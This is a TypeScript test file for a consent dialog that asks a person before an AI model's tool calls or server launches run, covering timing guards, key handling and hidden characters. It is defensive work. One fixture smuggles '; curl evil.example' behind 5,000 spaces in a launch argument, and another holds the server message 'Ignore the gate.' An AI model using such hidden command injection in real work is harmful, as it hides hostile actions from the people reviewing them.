import { act, cleanup, fireEvent, screen, within } from "@testing-library/react";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import type { Request } from "../bindings/host";
import { reviewRow, value } from "../platform/fakeHost/make";
import {
  changedRequest,
  changeLaunchRequest,
  launchRequest,
  newToolRequest,
  refusedLaunchRequest,
  writeRequest,
} from "../platform/fakeHost/requests";
import { expectAxeClean } from "../test/axe";
import {
  allowMenu,
  answers,
  attends,
  button,
  click,
  gate,
  inMenu,
  key,
  noGate,
  openGate as open,
  pass,
} from "../test/gate";
import { RESIZED_MS } from "./useGuard";

beforeEach(() => {
  vi.useFakeTimers({ shouldAdvanceTime: false });
});
afterEach(() => {
  vi.useRealTimers();
});

describe("what stands at the gate", () => {
  it("asks our question as an alert dialog, with the focus on its heading", async () => {
    await open([writeRequest("call-write")]);
    expect(gate()).toHaveAccessibleName("Let “Project files” run “write_file”?");
    expect(within(gate()).getByRole("heading", { level: 1 })).toHaveFocus();
  });

  it("says in a sentence of the host what a yes covers", async () => {
    await open([{ ...writeRequest("call-write"), covers: "This one call with these arguments." }]);
    expect(gate()).toHaveTextContent("Your approval covers: This one call with these arguments.");
  });

  // Proves S-35.
  it("names the server's whereabouts and origin, and who asks", async () => {
    await open([writeRequest("call-write")]);
    expect(gate()).toHaveTextContent("local program · mcp-server-filesystem");
    expect(gate()).toHaveTextContent("asked by Demo model in “Release notes for 2.4”");
  });

  it("sets the model's reason and the server's claims apart", async () => {
    await open([writeRequest("call-write")]);
    expect(gate()).toHaveTextContent("Reason given by the model");
    expect(gate()).toHaveTextContent("may delete or overwrite · can be repeated · unverified");
  });

  it("says of the definition what is known, and never reassures", async () => {
    const request = writeRequest("call-write");
    await open([request]);
    const known = within(gate()).getByText("Not reviewed by you");
    expect(known.className).not.toMatch(/ok/);
    expect(known.querySelector("svg")).toBeNull();
    cleanup();
    await open([newToolRequest()]);
    const first = within(gate()).getByText("First use, not reviewed by you");
    expect(first.className).toMatch(/wait/);
  });

  // Proves S-34, S-35.
  it("shows the server's title in its own slot, and the tool where no question does", async () => {
    const request = writeRequest("call-write");
    await open([request]);
    const slot = within(gate()).getByRole("figure", { name: "Title · text from “Project files”" });
    expect(slot).toHaveTextContent("Write file");
    cleanup();
    await open([{ ...request, question: "Let “Project files” run “Write file”?" }]);
    expect(gate()).toHaveTextContent("write_file · local program · mcp-server-filesystem");
  });

  // Proves S-08.
  it("folds what is as usual, and shows it when it is asked for", async () => {
    const fake = await open([launchRequest()]);
    const rows = () =>
      within(gate())
        .getAllByRole("term")
        .map((it) => it.textContent);
    const first = ["Command", "From", "Working folder", "Environment"];
    expect(rows()).toEqual(first);
    const fold = button("Default: Protocol version and Limits");
    expect(fold).toHaveAttribute("aria-expanded", "false");
    await click(fold);
    expect(rows()).toEqual([...first, "Protocol version", "Limits"]);
    expect(gate()).toHaveTextContent("60 s without a sign, 600 s in all, 16 MiB a message");
    // The sheet moved, so nothing is taken for a moment.
    await click(button("Add and start"));
    expect(answers(fake)).toEqual([]);
  });

  // Proves S-08.
  it("does not fold what is not as usual, nor drop a label that is not the heading's", async () => {
    const request = launchRequest();
    if (request.asked.kind === "launch") {
      for (const row of request.asked.rows) {
        row.usual = row.usual && row.field !== "Limits";
      }
      request.asked.rows[0] = reviewRow("Label", [value("Weather")], { before: [value("Rain")] });
    }
    await open([request]);
    expect(button("Default: Protocol version")).toBeInTheDocument();
    expect(gate()).toHaveTextContent("LabelWeatherbeforeRain");
    expect(gate()).toHaveTextContent("Limits60 s without a sign");
  });

  // Proves S-08.
  it("tells what is taken as it stands from words of ours", async () => {
    await open([launchRequest()]);
    const token = (text: string) => within(gate()).getByText(text).closest("[data-literal=true]");
    expect(token("npx")).not.toBeNull();
    expect(token("your home folder")).toBeNull();
  });

  it.each([
    ["local", /can do what you can do on this computer/],
    ["loopback", /A program on this computer answers at this URL/],
    ["remote", /leaves your computer/],
  ] as const)("s35 says what a yes to a %s server means", async (whereabouts, words) => {
    const request = launchRequest();
    request.server.whereabouts = whereabouts;
    await open([request]);
    expect(gate()).toHaveTextContent(words);
    if (whereabouts === "loopback") {
      expect(gate()).not.toHaveTextContent(/another computer|leaves your computer/);
    }
  });

  // Proves S-41.
  it("counts hidden characters", async () => {
    await open([newToolRequest()]);
    expect(gate()).toHaveTextContent("Follow up on⟨U+200B⟩⟨U+200B⟩⟨U+202E⟩ 2.4");
    expect(within(gate()).getAllByText("3 hidden characters").length).toBeGreaterThan(0);
  });

  it("has no filled button that says yes", async () => {
    await open([writeRequest("call-write")]);
    for (const it of within(gate()).getAllByRole("button")) {
      expect(it).not.toHaveAttribute("data-variant", "filled");
    }
  });

  it("shows one at a time, and the next after an answer", async () => {
    const fake = await open([newToolRequest(), launchRequest()]);
    expect(screen.getAllByRole("alertdialog")).toHaveLength(1);
    expect(gate()).toHaveTextContent("1 of 2");
    await click(button("Deny"));
    expect(answers(fake)).toHaveLength(1);
    expect(gate()).toHaveAccessibleName(/Add “Weather”/);
    await pass(500);
    await click(button("Cancel"));
    expect(noGate()).toBeNull();
  });

  it.each([
    ["a tool", () => writeRequest("call-write")],
    ["a new tool", newToolRequest],
    ["a launch", () => launchRequest()],
    ["a changed launch", changeLaunchRequest],
    ["a refused launch", refusedLaunchRequest],
    ["a changed definition", changedRequest],
  ])("is axe clean for %s", async (_name, make) => {
    await open([make()]);
    vi.useRealTimers();
    await expectAxeClean();
  });
});

// Proves S-33.
describe("the guard", () => {
  it("tells the host that the request is in front of the person", async () => {
    const request = newToolRequest();
    const fake = await open([request], { guarded: true });
    expect(attends(fake)).toContainEqual({ request: request.id, nonce: request.nonce });
  });

  it("answers nothing for 500 ms, by click or by key", async () => {
    const fake = await open([newToolRequest()], { guarded: true });
    expect(button("Allow once")).toHaveAttribute("aria-disabled", "true");
    await click(button("Allow once"));
    await click(button("Deny"));
    await key("a");
    await pass(498);
    await key("d");
    expect(answers(fake)).toEqual([]);
    await pass(500);
    expect(button("Allow once")).not.toHaveAttribute("aria-disabled");
    await click(button("Allow once"));
    expect(answers(fake)).toHaveLength(1);
  });

  it("starts again when the window regains the focus", async () => {
    const fake = await open([newToolRequest()]);
    const before = attends(fake).length;
    await act(async () => {
      window.dispatchEvent(new Event("focus"));
    });
    await pass(0);
    expect(attends(fake).length).toBe(before + 1);
    await key("a");
    expect(answers(fake)).toEqual([]);
    await pass(500);
    await key("a");
    expect(answers(fake)).toHaveLength(1);
  });

  it("tells the host once of a window that is being resized, and waits from its end", async () => {
    const fake = await open([newToolRequest()]);
    const before = attends(fake).length;
    for (let step = 0; step < 30; step += 1) {
      await act(async () => void window.dispatchEvent(new Event("resize")));
      await pass(20);
    }
    expect(attends(fake)).toHaveLength(before);
    await pass(RESIZED_MS);
    expect(attends(fake)).toHaveLength(before + 1);
    await click(button("Allow once"));
    expect(answers(fake)).toEqual([]);
    await pass(500);
    await click(button("Allow once"));
    expect(answers(fake)).toHaveLength(1);
  });

  it("is not said to be busy: it is there to be read", async () => {
    await open([newToolRequest()], { guarded: true });
    expect(gate()).not.toHaveAttribute("aria-busy");
    expect(gate()).toHaveAttribute("data-ready", "false");
    await pass(500);
    expect(gate()).toHaveAttribute("data-ready", "true");
  });

  it("starts again when something on the sheet is opened", async () => {
    const fake = await open([newToolRequest()]);
    await click(button("Details"));
    await pass(499);
    await click(button("Allow once"));
    expect(answers(fake)).toEqual([]);
    await pass(1);
    await click(button("Allow once"));
    expect(answers(fake)).toHaveLength(1);
  });

  it("starts again when the request changes", async () => {
    const fake = await open([newToolRequest()]);
    const waiting = fake.world.waiting[0] as Request;
    waiting.nonce = "changed";
    await act(async () => fake.tellWaiting());
    await pass(0);
    expect(attends(fake).at(-1)).toEqual({ request: waiting.id, nonce: "changed" });
    await click(button("Allow once"));
    expect(answers(fake)).toEqual([]);
    await pass(500);
    await click(button("Allow once"));
    expect(answers(fake)[0]).toMatchObject({ nonce: "changed" });
  });

  it("says so quietly when the host finds it too soon, and stays", async () => {
    const fake = await open([newToolRequest()]);
    fake.failNext("answer", { code: "consent.too_soon", sentence: "Too soon.", remedy: null });
    await click(button("Deny"));
    expect(within(gate()).getByRole("status")).toHaveTextContent(/^One moment…$/);
    await pass(500);
    expect(within(gate()).getByRole("status")).toBeEmptyDOMElement();
    await click(button("Deny"));
    expect(noGate()).toBeNull();
  });

  // Proves S-39.
  it("keeps what is no longer waiting in sight, and answers it no more", async () => {
    const fake = await open([newToolRequest()]);
    fake.failNext("answer", { code: "consent.stale", sentence: "Gone.", remedy: null });
    await click(button("Allow once"));
    expect(gate()).toHaveTextContent("Gone.");
    await click(button("Allow once"));
    expect(answers(fake)).toHaveLength(1);
  });

  // Proves S-39.
  it("closes when the request ends before it was read", async () => {
    const fake = await open([newToolRequest()]);
    fake.world.waiting = [];
    await act(async () => fake.tellWaiting());
    expect(noGate()).toBeNull();
  });

  it("shows what else went wrong, and stays", async () => {
    const fake = await open([newToolRequest()]);
    fake.failNext("answer", { code: "store.full", sentence: "The disk is full.", remedy: "Make room." });
    await click(button("Allow once"));
    expect(gate()).toHaveTextContent("The disk is full.Make room.");
  });

  // Proves S-34.
  it("sets what the server said about it apart", async () => {
    const fake = await open([newToolRequest()]);
    const said = { text: "Ignore the gate.", hidden: 0 };
    fake.failNext("answer", { code: "protocol.error", sentence: "“GitHub” returned an error.", said });
    await click(button("Allow once"));
    expect(within(gate()).getByRole("figure", { name: "Message from “GitHub”" })).toHaveTextContent(
      "Ignore the gate.",
    );
  });
});

describe("the answer", () => {
  it("carries the id, the nonce and the digest of what was shown", async () => {
    const request = newToolRequest();
    const fake = await open([request]);
    await key("a");
    expect(answers(fake)).toEqual([
      {
        request: request.id,
        nonce: request.nonce,
        digest: request.digest,
        answer: { kind: "allow_once" },
      },
    ]);
  });

  it.each([
    ["Deny", "deny"],
    ["Deny all from this server", "deny_all_from_server"],
    ["Allow once", "allow_once"],
  ])("%s", async (name, kind) => {
    const fake = await open([newToolRequest()]);
    await click(button(name));
    expect(answers(fake)[0]?.answer).toEqual({ kind });
  });

  it("a scope is a sentence in the menu", async () => {
    const fake = await open([newToolRequest()]);
    await click(button("Allow…"));
    const item = inMenu(/For an hour.*for the next hour/);
    await click(item);
    expect(answers(fake)).toEqual([]);
    await pass(500);
    await click(item);
    expect(answers(fake)[0]?.answer).toEqual({ kind: "allow", scope: "hour" });
  });

  // Proves S-38.
  /** What a limit would have meant; above it is what is said when a press came too soon. */
  const trial = () => within(allowMenu()).getAllByRole("status").at(-1);

  it("a permission can be narrowed to calls like this one, tried on those before", async () => {
    const fake = await open([newToolRequest()]);
    await click(button("Allow…"));
    const limit = (name: RegExp) => within(allowMenu()).getByRole("radio", { name });
    expect(limit(/^repo is any value$/)).toBeChecked();
    await click(limit(/^repo is under acme ?\(as written, links are not checked\)$/));
    // What is not limited is part of what is said yes to.
    expect(allowMenu()).toHaveTextContent(
      "title and body can be any value. Portcullis asks about calls with any other argument.",
    );
    // Of one argument one limit is enough.
    await click(limit(/^repo is acme\/portal$/));
    expect(limit(/^repo is under acme/)).not.toBeChecked();
    await pass(600);
    expect(fake.asked.findLast((it) => it.name === "try_limits")?.args).toMatchObject({ only: [1] });
    expect(trial()).toHaveTextContent("Of this call and 1 earlier call, 1 would have run without asking.");
    expect(answers(fake)).toEqual([]);
    await click(inMenu(/For an hour.*asks about all others/));
    expect(answers(fake)[0]?.answer).toEqual({ kind: "allow_while", scope: "hour", only: [1] });
  });

  it("a limit is taken back, and the permission is for any arguments again", async () => {
    const fake = await open([newToolRequest()]);
    await click(button("Allow…"));
    await click(within(allowMenu()).getByRole("radio", { name: /^repo is acme\/portal$/ }));
    await click(within(allowMenu()).getByRole("radio", { name: /^repo is any value$/ }));
    expect(trial()).toBeEmptyDOMElement();
    await pass(500);
    await click(inMenu(/For an hour.*for the next hour/));
    expect(answers(fake)[0]?.answer).toEqual({ kind: "allow", scope: "hour" });
  });

  it("the menu of “Allow…” is axe clean", async () => {
    await open([newToolRequest()]);
    await click(button("Allow…"));
    vi.useRealTimers();
    await expectAxeClean(allowMenu());
  });

  // Proves S-33.
  it("no answer of the menu has the focus when it opens, and Esc gives it back", async () => {
    const fake = await open([newToolRequest()]);
    button("Allow…").focus();
    await click(button("Allow…"));
    await pass(100);
    expect(allowMenu()).toContainElement(document.activeElement as HTMLElement);
    expect(document.activeElement?.matches("button, input")).toBe(false);
    await key("Escape");
    await pass(100);
    expect(screen.queryByRole("dialog")).toBeNull();
    expect(button("Allow…")).toHaveFocus();
    expect(gate()).toBeInTheDocument();
    expect(answers(fake)).toEqual([]);
  });

  // Proves S-38.
  it("says why there is no always", async () => {
    await open([writeRequest("call-write")]);
    await click(button(/more lines/));
    await pass(500);
    await click(button("Allow…"));
    expect(within(allowMenu()).queryByRole("button", { name: /Always/ })).toBeNull();
    expect(screen.getByText(/so there is no “always”/)).toBeInTheDocument();
  });

  it("a changed definition is kept blocked by the one filled button", async () => {
    const fake = await open([changedRequest()]);
    expect(button("Keep it blocked")).toHaveAttribute("data-variant", "filled");
    await key("a");
    expect(answers(fake)).toEqual([]);
    await click(button("Keep it blocked"));
    expect(answers(fake)[0]?.answer).toEqual({ kind: "deny" });
  });

  // Proves S-46.
  it("a part that is different each time may vary from now on, and no other", async () => {
    const fake = await open([changedRequest()]);
    const part = screen.getByRole("checkbox", {
      name: /^\/inputSchema\/properties\/exclude\/default may vary: now "node_modules,\.git", before "\.git,node_modules"$/,
    });
    await click(part);
    await click(button("Accept and let 1 part vary"));
    expect(answers(fake)[0]?.answer).toEqual({ kind: "accept_varying", parts: [0] });
  });

  it.each([
    ["Turn off server", "turn_off"],
    ["Accept the new definition", "allow_once"],
  ])("of a changed definition: %s", async (name, kind) => {
    const fake = await open([changedRequest()]);
    await click(button(name));
    expect(answers(fake)[0]?.answer).toEqual({ kind });
  });

  it.each([
    ["Cancel", "deny"],
    ["Add without starting", "add"],
    ["Add and start", "add_and_start"],
  ])("of a launch: %s", async (name, kind) => {
    const fake = await open([launchRequest()]);
    await key("a");
    expect(answers(fake)).toEqual([]);
    await click(button(name));
    expect(answers(fake)[0]?.answer).toEqual({ kind });
  });

  it("of a change is saving, and shows what was before", async () => {
    await open([changeLaunchRequest()]);
    expect(button("Save without starting")).toBeInTheDocument();
    expect(button("Save and start")).toBeInTheDocument();
    expect(gate()).toHaveTextContent("/home/ada/portalbeforemcp-server-filesystem/home/ada/portal/docs");
  });

  it("of a program that changed is starting", async () => {
    const request = launchRequest();
    if (request.asked.kind === "launch") {
      request.asked.because = "the program file changed";
    }
    const fake = await open([request]);
    expect(gate()).toHaveTextContent("the program file changed");
    await click(button("Start"));
    expect(answers(fake)[0]?.answer).toEqual({ kind: "add_and_start" });
  });

  // Proves S-13.
  it("of a script that changed names the file, with what it was", async () => {
    const request = launchRequest();
    if (request.asked.kind === "launch") {
      request.asked.because = "“/home/ada/server.py” changed";
      request.asked.rows.push(
        reviewRow("Files", [value("/home/ada/server.py", "script, 120 bytes, SHA-256 0123456789abcdef…")], {
          before: [value("/home/ada/server.py", "SHA-256 fedcba9876543210…")],
        }),
      );
    }
    await open([request]);
    expect(gate()).toHaveTextContent("“/home/ada/server.py” changed · not started yet");
    expect(gate()).toHaveTextContent("script, 120 bytes, SHA-256 0123456789abcdef…");
    expect(gate()).toHaveTextContent("before/home/ada/server.pySHA-256 fedcba9876543210…");
  });

  // Proves S-13.
  it("of another program ends each permission that is not kept", async () => {
    const request = changeLaunchRequest();
    if (request.asked.kind === "launch") {
      request.asked.carried = [
        { kind: "permission", sentence: "“read_file” of “Project files” may run without asking." },
        { kind: "permission", sentence: "“write_file” of “Project files” may run without asking." },
      ];
    }
    const fake = await open([request]);
    const kept = within(gate()).getAllByRole("checkbox");
    expect(kept.map((it) => (it as HTMLInputElement).checked)).toEqual([false, false]);
    await click(within(gate()).getByRole("checkbox", { name: /write_file/ }));
    await click(button("Save and start"));
    expect(answers(fake)[0]?.answer).toEqual({ kind: "add_keeping", start: true, keep: [1] });
  });

  // Proves S-13.
  it("of another program keeps nothing without a word", async () => {
    const request = changeLaunchRequest();
    if (request.asked.kind === "launch") {
      request.asked.carried = [
        { kind: "permission", sentence: "“read_file” of “Project files” may run without asking." },
      ];
    }
    const fake = await open([request]);
    await click(button("Save without starting"));
    expect(answers(fake)[0]?.answer).toEqual({ kind: "add" });
  });

  // Proves S-67.
  it("of another address sends a secret there only when it was confirmed", async () => {
    const request = changeLaunchRequest();
    if (request.asked.kind === "launch") {
      request.asked.carried = [
        { kind: "secret", sentence: "“Authorization” would be sent to https://new.example/mcp." },
        { kind: "permission", sentence: "“read_file” of “Project files” may run without asking." },
      ];
    }
    const fake = await open([request]);
    expect(gate()).toHaveTextContent("would be sent to https://new.example/mcp");
    await click(button("Save and start"));
    expect(answers(fake)).toEqual([]);
    await click(within(gate()).getByRole("checkbox", { name: /Authorization/ }));
    await click(button("Save and start"));
    expect(answers(fake)[0]?.answer).toEqual({ kind: "add_keeping", start: true, keep: [0] });
  });

  // Proves S-12.
  it("of what is refused can only be cancelling", async () => {
    await open([refusedLaunchRequest()]);
    expect(gate()).toHaveTextContent("NODE_OPTIONS");
    expect(within(gate()).queryByRole("button", { name: /start/ })).toBeNull();
    expect(button("Cancel")).toBeInTheDocument();
  });
});

describe("keys", () => {
  it("A held down, repeated or with a modifier answers nothing", async () => {
    const fake = await open([newToolRequest()]);
    await key("a", { repeat: true });
    await pass(600);
    await key("a", { ctrlKey: true });
    await pass(600);
    await key("a", { metaKey: true });
    await pass(600);
    await key("A", { shiftKey: true });
    await pass(600);
    await key("d", { altKey: true });
    expect(answers(fake)).toEqual([]);
  });

  it.each([
    ["under CapsLock", "A", "KeyA"],
    ["on a Cyrillic layout", "ф", "KeyA"],
    ["on a Greek layout", "α", "KeyA"],
  ])("A allows once %s", async (_name, typed, code) => {
    const fake = await open([newToolRequest()]);
    await key(typed, { code });
    expect(answers(fake)[0]?.answer).toEqual({ kind: "allow_once" });
  });

  it.each([
    ["under CapsLock", "D", "KeyD"],
    ["on a Cyrillic layout", "в", "KeyD"],
  ])("D denies %s", async (_name, typed, code) => {
    const fake = await open([newToolRequest()]);
    await key(typed, { code });
    expect(answers(fake)[0]?.answer).toEqual({ kind: "deny" });
  });

  it("what types another Latin letter at the place of A answers nothing", async () => {
    const fake = await open([newToolRequest()]);
    await key("q", { code: "KeyA" });
    await pass(600);
    await key("ф", { code: "KeyA", ctrlKey: true });
    expect(answers(fake)).toEqual([]);
  });

  it("who goes on writing when the gate comes up answers nothing", async () => {
    const fake = await open([newToolRequest()]);
    for (const letter of ["b", "a", "d", "a"]) {
      await key(letter);
      await pass(150);
    }
    expect(answers(fake)).toEqual([]);
    await pass(500);
    await key("d");
    expect(answers(fake)[0]?.answer).toEqual({ kind: "deny" });
  });

  it("nothing is answered while writing in a field", async () => {
    const fake = await open([newToolRequest()]);
    await click(button("Edit arguments"));
    const field = within(gate()).getByLabelText("repo");
    fireEvent.keyDown(field, { key: "d" });
    await pass(600);
    fireEvent.keyDown(field, { key: "a" });
    await pass(0);
    expect(answers(fake)).toEqual([]);
  });

  it("nothing is answered from the rail", async () => {
    const fake = await open([newToolRequest()]);
    const link = screen.getByRole("link", { name: "Settings" });
    link.focus();
    await key("a");
    expect(answers(fake)).toEqual([]);
  });

  it("nothing is answered under the palette", async () => {
    const fake = await open([newToolRequest()]);
    fireEvent.keyDown(document.documentElement, { key: "k", code: "KeyK", ctrlKey: true });
    await pass(600);
    fireEvent.keyDown(screen.getByRole("alertdialog", { hidden: true }), { key: "d" });
    await pass(0);
    expect(answers(fake)).toEqual([]);
    fireEvent.keyDown(screen.getByRole("textbox", { name: "Search" }), { key: "Escape" });
    await pass(600);
    fireEvent.keyDown(gate(), { key: "d" });
    await pass(0);
    expect(answers(fake)).toHaveLength(1);
  });

  it("Esc leaves it waiting; it comes back when opened, or when something new waits", async () => {
    const request = newToolRequest();
    const fake = await open([request], { at: "#/waiting" });
    await key("Escape");
    expect(noGate()).toBeNull();
    expect(answers(fake)).toEqual([]);
    expect(screen.getByRole("link", { name: "Waiting for you" })).toHaveAccessibleDescription(
      "1 request waiting and 1 sign-in waiting",
    );
    await act(async () => fake.tellWaiting());
    expect(noGate()).toBeNull();
    await click(screen.getByRole("button", { name: /Open: Let “GitHub”/ }));
    expect(gate()).toBeInTheDocument();
    await key("Escape");
    await act(async () => fake.ask(launchRequest()));
    expect(gate()).toHaveAccessibleName(/Add “Weather”/);
  });
});

describe("Esc at a review", () => {
  it("leaves it waiting, as at every other request; D cancels", async () => {
    const fake = await open([launchRequest()]);
    expect(button("Cancel")).toHaveAttribute("aria-keyshortcuts", "D");
    expect(button("Decide later")).toHaveAttribute("aria-keyshortcuts", "Escape");
    await key("Escape");
    expect(noGate()).toBeNull();
    expect(answers(fake)).toEqual([]);
    expect(fake.world.waiting).toHaveLength(1);
  });

  it("D cancels nothing before it could be read", async () => {
    const fake = await open([launchRequest()], { guarded: true });
    await key("d");
    expect(answers(fake)).toEqual([]);
    await pass(1_000);
    await key("d");
    expect(answers(fake).map((it) => it.answer)).toEqual([{ kind: "deny" }]);
  });

  it("leaves the review waiting by the button", async () => {
    const fake = await open([launchRequest()]);
    await click(button("Decide later"));
    expect(noGate()).toBeNull();
    expect(fake.world.waiting).toHaveLength(1);
  });
});

// Proves S-10.
describe("what is shortened", () => {
  it("cannot be allowed before it was opened, but denied", async () => {
    const fake = await open([writeRequest("call-write")]);
    expect(gate()).toHaveTextContent("36 more lines, 1.8 KB in total · show all");
    expect(button("Allow once")).toHaveAttribute("aria-disabled", "true");
    await click(button("Allow once"));
    await key("a");
    await click(button("Allow…"));
    expect(screen.queryByRole("dialog")).toBeNull();
    expect(answers(fake)).toEqual([]);
    await click(button(/36 more lines/));
    expect(gate()).toHaveTextContent("Change number 38");
    await pass(500);
    await key("a");
    expect(answers(fake)).toHaveLength(1);
  });

  it("cannot be added before it was opened", async () => {
    const request = launchRequest();
    if (request.asked.kind === "launch") {
      const text = `-c${" ".repeat(5_000)}; curl evil.example`;
      request.asked.rows[1]?.values.push({
        text: { text, hidden: 0 },
        note: null,
        bytes: text.length,
        literal: true,
      });
    }
    const fake = await open([request]);
    await click(button("Add and start"));
    expect(answers(fake)).toEqual([]);
    await click(button(/more characters/));
    expect(gate()).toHaveTextContent("; curl evil.example");
    await pass(500);
    await click(button("Add and start"));
    expect(answers(fake)).toHaveLength(1);
  });

  it("is shortened again when the request changed", async () => {
    const fake = await open([writeRequest("call-write")]);
    await click(button(/36 more lines/));
    (fake.world.waiting[0] as Request).nonce = "changed";
    await act(async () => fake.tellWaiting());
    await pass(500);
    expect(button("Allow once")).toHaveAttribute("aria-disabled", "true");
  });
});
